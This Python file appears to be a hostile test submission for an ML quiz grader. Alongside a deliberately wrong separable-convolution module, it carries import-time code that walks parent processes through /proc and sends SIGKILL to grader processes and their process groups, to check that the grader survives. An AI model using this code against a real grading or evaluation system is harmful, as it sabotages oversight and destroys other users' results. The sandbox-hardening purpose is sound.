"""Hostile: kills every grader process above it, the grading server first.

The module is the deck's "ReLU between" wrong solution (fails ``outputs``). At import it
walks up its ancestors while their command lines look like the grader's (stopping at the
first shell or other process of the machine), keeps those whose command line names the
``grader`` package (never a test runner), and sends each SIGKILL, the farthest first
(the warm grading server, then the judge), and SIGKILL to each one's process group when a
grader process leads it. If that worked, every submission being graded by that server
loses its report.

A grader must report this file as failed or errored, and still report every other
submission graded alongside (the submission must not be able to see or signal the grader's
processes). Prints ``MLQUIZ-ESCAPED kill-ancestors <pid>`` and tries to leave
``/tmp/mlquiz-escape-kill-ancestors`` for each kill that went through.
"""

import contextlib
import os
import signal

import torch
from torch import nn

GRADERISH = (b"grader", b"zygote", b"judge", b"contestant", b"mlquiz", b"quiz")
SHELLS = {"bash", "sh", "dash", "zsh", "fish", "sudo", "su", "sshd", "ssh", "tmux", "screen",
          "systemd", "init", "login", "timeout", "nohup", "env",
          "setsid", "nice", "stdbuf", "xargs", "make", "sudo-rs", "containerd-shim", "docker"}


def _read(path, size=1 << 16):
    with contextlib.suppress(OSError):
        with open(path, "rb") as handle:
            return handle.read(size)
    return b""


def _ppid_of(pid):
    for line in _read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _is_grader(pid):
    comm = _read(f"/proc/{pid}/comm").decode(errors="replace").strip()
    return comm not in SHELLS and any(w in _read(f"/proc/{pid}/cmdline") for w in GRADERISH)


def _grader_ancestors(levels=6):
    """Ancestors, nearest first, up to the first one that is not a grader process."""
    found, pid = [], os.getpid()
    for _ in range(levels):
        pid = _ppid_of(pid)
        if pid <= 1 or not _is_grader(pid):
            break
        found.append(pid)
    return found


def _fds(pid):
    with contextlib.suppress(OSError, ValueError):
        return sorted(int(n) for n in os.listdir(f"/proc/{pid}/fd"))
    return []


def _pipe(path):
    with contextlib.suppress(OSError):
        link = os.readlink(path)
        if link.startswith("pipe:"):
            return link
    return None


def _accmode(pid, fd):
    for line in _read(f"/proc/{pid}/fdinfo/{fd}").decode(errors="replace").splitlines():
        if line.startswith("flags:"):
            return int(line.split()[1], 8) & 3
    return None


def _own_pipes():
    """Inodes of this process's own pipes other than 0, 1, 2 (its link to the grader)."""
    return {_pipe(f"/proc/self/fd/{fd}") for fd in _fds("self") if fd > 2} - {None}



def _killable(pid):
    """Only the grader's own server and judges: never a test runner or a shell."""
    cmdline = _read(f"/proc/{pid}/cmdline")
    return b"grader" in cmdline and b"pytest" not in cmdline


def _kill_all():
    ancestors = [pid for pid in _grader_ancestors() if _killable(pid)]
    print(f"kill-ancestors: grader ancestors {ancestors}", flush=True)
    killed = []
    for pid in reversed(ancestors):  # the farthest first: killing our parent kills us
        try:
            os.kill(pid, 0)
        except OSError as exc:
            print(f"kill-ancestors: cannot signal {pid}: {exc.strerror}", flush=True)
            continue
        print(f"MLQUIZ-ESCAPED kill-ancestors {pid}", flush=True)
        with contextlib.suppress(OSError), open("/tmp/mlquiz-escape-kill-ancestors", "a") as m:
            m.write(f"killed {pid}\n")
        killed.append(pid)
        with contextlib.suppress(OSError):
            group = os.getpgid(pid)
            if group != os.getpgrp() and _killable(group):  # a grader process leads it
                os.killpg(group, signal.SIGKILL)
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    return killed


with contextlib.suppress(Exception):
    _kill_all()


class SeparableConv2d(nn.Module):
    """WRONG: a ReLU between the depthwise and the pointwise convolution."""

    def __init__(self, in_channels, out_channels, kernel_size=3):
        super().__init__()
        self.depthwise = nn.Conv2d(
            in_channels,
            in_channels,
            kernel_size,
            padding=kernel_size // 2,
            groups=in_channels,
            bias=False,
        )
        self.pointwise = nn.Conv2d(in_channels, out_channels, kernel_size=1, bias=False)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.pointwise(torch.relu(self.depthwise(x)))
